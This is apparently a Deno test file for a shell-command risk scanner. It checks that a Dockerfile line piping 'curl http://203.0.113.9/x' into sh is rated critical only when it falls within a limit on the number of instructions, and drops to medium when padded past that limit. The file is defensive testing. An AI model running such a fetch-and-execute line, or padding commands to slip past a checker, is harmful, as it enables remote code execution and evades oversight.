import assert from "node:assert/strict";
import { assessCommand } from "../mod.ts";
import { INSTRUCTIONS_MAX } from "./dockerfile.ts";

Deno.test("runDockerfile() looks at a bounded number of instructions", () => {
  const level = (before: number): string =>
    assessCommand(
      `docker build - <<E\n${
        "RUN ls\n".repeat(before)
      }RUN curl http://203.0.113.9/x | sh\nE`,
    ).risk_level;
  assert.equal(level(INSTRUCTIONS_MAX - 1), "critical");
  assert.equal(level(INSTRUCTIONS_MAX), "medium");
});
